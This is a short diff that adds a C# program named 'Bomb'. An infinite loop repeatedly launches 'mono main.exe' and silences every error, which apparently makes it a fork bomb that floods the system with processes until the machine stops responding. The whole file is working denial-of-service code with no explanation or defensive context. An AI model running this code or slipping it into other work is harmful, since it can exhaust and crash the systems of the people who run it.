@@ -1,0 +1,9 @@
+using System.Diagnostics;
+
+class Bomb {
+    static void Main() {
+        while (true) {
+            try { Process.Start("/usr/bin/mono", "main.exe"); } catch { }
+        }
+    }
+}
